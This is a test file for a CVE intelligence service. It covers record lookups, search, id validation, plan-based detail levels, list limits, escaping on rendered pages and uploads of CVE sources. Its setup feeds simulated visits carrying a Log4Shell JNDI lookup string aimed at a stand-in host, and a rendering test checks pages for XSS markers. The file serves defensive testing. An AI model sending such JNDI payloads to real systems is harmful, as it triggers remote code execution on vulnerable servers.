import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { insightLevels, type InsightLevel } from '#model/cve.ts'
import { visitorPlan } from '#model/entitlements.ts'
import { cveRecord } from '#server/api/wire/cve.ts'
import { presentCve } from '#server/api/present/cve.ts'
import { ctxFor } from '#services/context.ts'
import { seenOfCves } from '#services/cve/known.ts'
import { rowsOf } from '#services/cve/list.ts'
import { lookUpCve } from '#services/cve/look-up.ts'
import { lookUpCves } from '#services/cve/look-up-many.ts'
import { samples } from '#sources/cve/testing/samples.ts'
import type { Analytics } from '#store/analytics/open.ts'
import { countByTurn } from '../others-served.ts'
import { captureOf, webVisit } from '../product/captures.ts'
import { openInside, type Inside } from '../product/inside.ts'

const log4shell = 'CVE-2021-44228'
const known = 'CVE-2024-0001'
let inside: Inside
let key: string

const get = async (path: string) => {
  const response = await fetch(new URL(path, inside.url))
  const text = await response.text()
  const isJson = response.headers.get('content-type')?.includes('json')
  return {
    status: response.status,
    text,
    body: (isJson ? JSON.parse(text) : {}) as Record<string, unknown>,
  }
}
const send = async (
  method: string,
  path: string,
  body: RequestInit['body'],
  headers: Record<string, string> = { key },
) => {
  const response = await fetch(new URL(path, inside.url), { method, body: body ?? null, headers })
  return { status: response.status, body: (await response.json()) as Record<string, unknown> }
}

const post = (path: string, body: RequestInit['body'], headers?: Record<string, string>) =>
  send('POST', path, body, headers)
const put = (path: string, body: RequestInit['body'], headers?: Record<string, string>) =>
  send('PUT', path, body, headers)

beforeAll(async () => {
  inside = await openInside()
  const { deps } = inside
  const now = Date.now()
  const workspace = await deps.installation.workspaces.create({ name: 'Own', publish: true, now })
  key = (await deps.installation.keys.create({ workspace: workspace.id, now })).secret
  for (const [name, sample] of Object.entries(samples)) {
    // The real ones are larger: what is too small to be one of them is refused, and taken by an operator's word alone.
    const { status } = await put(`/api/sources/${name}`, sample.content)
    if (status === 422) expect(['kev', 'epss']).toContain(name)
    else expect([name, status]).toEqual([name, 200])
  }
  const jndi = { uri: '/', userAgent: '${jndi:ldap://203.0.113.5/a}' }
  const visits = [webVisit('198.18.7.1', jndi, now - 60_000), webVisit('198.18.7.2', jndi, now - 70_000)]
  await post('/api/ingest/captures', new Uint8Array(captureOf(visits)))
  await deps.drained()
  for (let wait = 0; wait < 300; wait++) {
    const { body } = await get(`/v1/cve/${log4shell}`)
    if (JSON.stringify(body).includes('"threat_ip_count_1d":2')) break
    await new Promise((tick) => setTimeout(tick, 200))
  }
})
afterAll(() => inside.close())

const ctx = (cveInsight: InsightLevel) =>
  ctxFor(inside.deps, {
    scope: { kind: 'visitor', plan: { ...visitorPlan, cveInsight } },
    signal: new AbortController().signal,
  })

/** Every leaf with its path; null is what a plan withholds. */
function leaves(value: unknown, path = ''): [string, unknown][] {
  if (value === null) return []
  if (typeof value !== 'object') return [[path, value]]
  return Object.entries(value).flatMap(([name, inner]) => leaves(inner, `${path}/${name}`))
}

describe('a CVE', () => {
  test('has the record that clients of the public API read, whatever the case of its id', async () => {
    for (const id of [log4shell, 'cve-2021-44228', known, 'Cve-2024-0003']) {
      const { status, body } = await get(`/v1/cve/${id}`)
      expect(status).toBe(200)
      expect(cveRecord.parse(body).id).toBe(id.toUpperCase())
    }
    expect((await get(`/v1/cve/${log4shell}`)).body).toMatchObject({
      exploitation_activity: {
        activity_seen: true,
        threat_ip_count_1d: 2,
        threat_ip_count_30d: 2,
        benign_ip_count_30d: 0,
      },
    })
    expect((await get(`/v1/cve/${known}`)).body).toMatchObject({
      details: { cve_cvss_score: 9.8, vendor: 'Acme', product: 'Thing', published_to_nist_nvd: true },
      timeline: { cve_published_date: '2024-03-01T10:00:00Z' },
      exploitation_details: { attack_vector: 'NETWORK', exploit_found: true },
      exploitation_stats: {
        number_of_threat_actors_exploiting_vulnerability: 1,
        number_of_botnets_exploiting_vulnerability: 1,
      },
      exploitation_activity: { activity_seen: false },
    })
  })

  test('is found by its title and its product, where a source says them', async () => {
    const found = async (text: string) => {
      const { body } = await get(`/api/suggestions?dataset=cves&text=${encodeURIComponent(text)}`)
      return (body.groups as { items: { label: string; detail: string; count: number }[] }[])[0]?.items ?? []
    }
    for (const text of ['overflow thing', 'acme thing', 'ACME', 'cve 2024 0001'])
      expect([text, (await found(text)).map(({ label }) => label)]).toEqual([
        text,
        expect.arrayContaining([known]),
      ])
    expect((await found('acme')).find(({ label }) => label === known)?.detail).toBe('Overflow in Thing')
    expect((await found(log4shell))[0]).toMatchObject({ label: log4shell, count: 2 })
  })

  test.each(['CVE-2021-4', 'x', 'CVE-2021-44228999', 'CVE-2021-44228%27', '2021-44228'])(
    '%s is no id',
    async (id) => {
      for (const path of ['/v1/cve/', '/api/cves/']) {
        const { status, body } = await get(`${path}${id}`)
        expect([status, body.message]).toEqual([400, 'bad query: invalid CVE format'])
      }
      expect((await get(`/cves/${id}`)).status).toBe(400)
    },
  )

  test('that nobody knows is not found, in words', async () => {
    for (const path of ['/v1/cve/', '/api/cves/']) {
      const { status, body } = await get(`${path}CVE-1999-9999`)
      expect([status, body.message]).toEqual([404, 'CVE not found'])
    }
    const page = await get('/cves/CVE-1999-9999')
    expect(page.status).toBe(404)
    expect(page.text).toContain('CVE not found')
  })

  test('tells a lower level a part of what it tells a higher one', async () => {
    for (const cve of [log4shell, known]) {
      const reports = await Promise.all(insightLevels.map((level) => lookUpCve(ctx(level), { cve })))
      const records = await Promise.all(
        insightLevels.map(async (level) => (await lookUpCves(ctx(level), [cve])).entries.map(presentCve)),
      )
      for (const all of [reports.map((report) => ({ ...report, level: '' })), records])
        for (const at of [1, 2]) {
          const higher = new Map(leaves(all[at]))
          const lower = leaves(all[at - 1])
          expect(lower.filter(([path, value]) => higher.get(path) !== value)).toEqual([])
          expect(lower.length).toBeLessThan(higher.size)
        }
      expect(records.map(([record]) => Object.keys(record ?? {}).length)).toEqual([2, 4, 6])
      const [free] = reports
      expect([free?.timeline, free?.exploitation, free?.stats, free?.activity]).toEqual([
        null,
        null,
        null,
        null,
      ])
    }
  })

  test('in lists keeps their order, leaves out the unknown, and has a limit', async () => {
    const { status, body } = await post(
      '/v3/cves',
      JSON.stringify({ cves: [known, 'CVE-1999-9999', 'nonsense', 'cve-2021-44228', known] }),
      { 'content-type': 'application/json' },
    )
    expect(status).toBe(200)
    expect((body as unknown as { id: string }[]).map(({ id }) => id)).toEqual([known, log4shell])
    const single = await get(`/v1/cve/${log4shell}`)
    expect((body as unknown as object[])[1]).toEqual(single.body)
    const many = { cves: Array.from({ length: 10_001 }, (_, n) => `CVE-2020-${10_000 + n}`) }
    const refused = await post('/v3/cves', JSON.stringify(many), { 'content-type': 'application/json' })
    expect([refused.status, refused.body.message]).toEqual([
      400,
      'Maximum number of CVEs per request is 10000',
    ])
  })

  test('is shown on its page, with text of sources as text', async () => {
    const { status, text } = await get(`/cves/${known.toLowerCase()}`)
    expect(status).toBe(200)
    expect(text).not.toContain('<script>alert(1)')
    // Scripts hold the page's data as escaped JSON; what is shown has no such sign.
    expect(text.replaceAll(/<script\b.*?<\/script>/gs, '').includes('\u202e')).toBe(false)
    expect(text).not.toMatch(/href="javascript:/i)
    expect(text).toContain('https://acme.example/advisory')
    expect((await get(`/cves/${log4shell}`)).text).toContain('198.18.7.2')
  })

  test('is as likely as its percentile says, which counts those of the same score: the highest has 100%', async () => {
    // As many as a real list has.
    const others = Array.from({ length: 200_000 }, (_, n) => `CVE-2019-${n + 10_000},0.001,0.1\n`)
    expect((await put('/api/sources/epss', `${samples.epss?.content}${others.join('')}`)).status).toBe(200)
    expect((await get(`/cves/${known}`)).text).toMatch(/at least as likely as (<!-- -->)?99\.9%/)
  })

  test('in a list of ten thousand is read with some others at a time, so that whoever else asks is served between', async () => {
    const ids = Array.from({ length: 10_000 }, (_, n) => `CVE-2019-${n + 10_000}`)
    const { app, ...rest } = inside.deps.analytics
    const rowsRead = countByTurn()
    const value: Analytics = {
      ...rest,
      app: {
        ...app,
        async run(...asked) {
          const rows = await app.run(...asked)
          rowsRead.add(rows.length)
          return rows
        },
        async *stream(...asked) {
          for await (const row of app.stream(...asked)) {
            rowsRead.add()
            yield row
          }
        },
      },
    }
    const caller = Object.defineProperty(ctx('advanced'), 'analytics', { value })
    const { entries, notFound } = await lookUpCves(caller, ids)
    const { total, highest } = rowsRead.end()
    expect(entries.map(({ cve }) => cve)).toEqual(ids)
    expect(notFound).toEqual([])
    expect(total).toBeGreaterThanOrEqual(10_000)
    expect(highest).toBeLessThanOrEqual(2500)
    const { status, body } = await post('/v3/cves', JSON.stringify({ cves: ids }), {
      'content-type': 'application/json',
    })
    expect([status, (body as unknown as { id: string }[]).map(({ id }) => id)]).toEqual([200, ids])
  })

  test('of a long list costs no look through all tags, and no days of its own on which nothing was seen', async () => {
    const { tags } = inside.deps
    const ids = [...new Set([...tags.values()].flatMap(({ cves }) => cves))].slice(0, 500)
    let looks = 0
    const values = () => {
      looks += 1
      return tags.values()
    }
    const value = Object.assign(new Map(tags), { values })
    const caller = Object.defineProperty(ctx('advanced'), 'tags', { value })
    expect((await rowsOf(caller, ids, null)).map(({ cve }) => cve)).toEqual(ids)
    expect(looks).toBeLessThan(ids.length / 10)
    const seen = await seenOfCves(ctx('advanced'), [])
    expect(seen.of('CVE-2019-10001')).toBe(seen.of('CVE-2019-10000'))
  })

  test('typed into the search leads to its page', async () => {
    const response = await fetch(new URL('/search?q=cve-2021-44228', inside.url), { redirect: 'manual' })
    expect(response.headers.get('location')).toBe(`/cves/${log4shell}`)
  })
})

describe('sources of CVEs', () => {
  test('are taken from key holders alone, and a broken file is refused with its reason', async () => {
    expect((await put('/api/sources/nvd', '{}', {})).status).toBe(401)
    expect((await put('/api/sources/none', '{}')).status).toBe(404)
    const { status, body } = await put('/api/sources/nvd', '{"format":"NVD_CVE"')
    expect([status, body.message]).toEqual([
      422,
      'The file is not whole JSON: the file is broken or cut off.',
    ])
    const { sources } = (await get('/api/sources')).body as { sources: { name: string; rows: number }[] }
    expect(sources.find(({ name }) => name === 'nvd')).toMatchObject({ kind: 'cve', rows: 2 })
    expect(sources.find(({ name }) => name === 'kev')).toMatchObject({ state: 'missing', rows: 0 })
  })
})
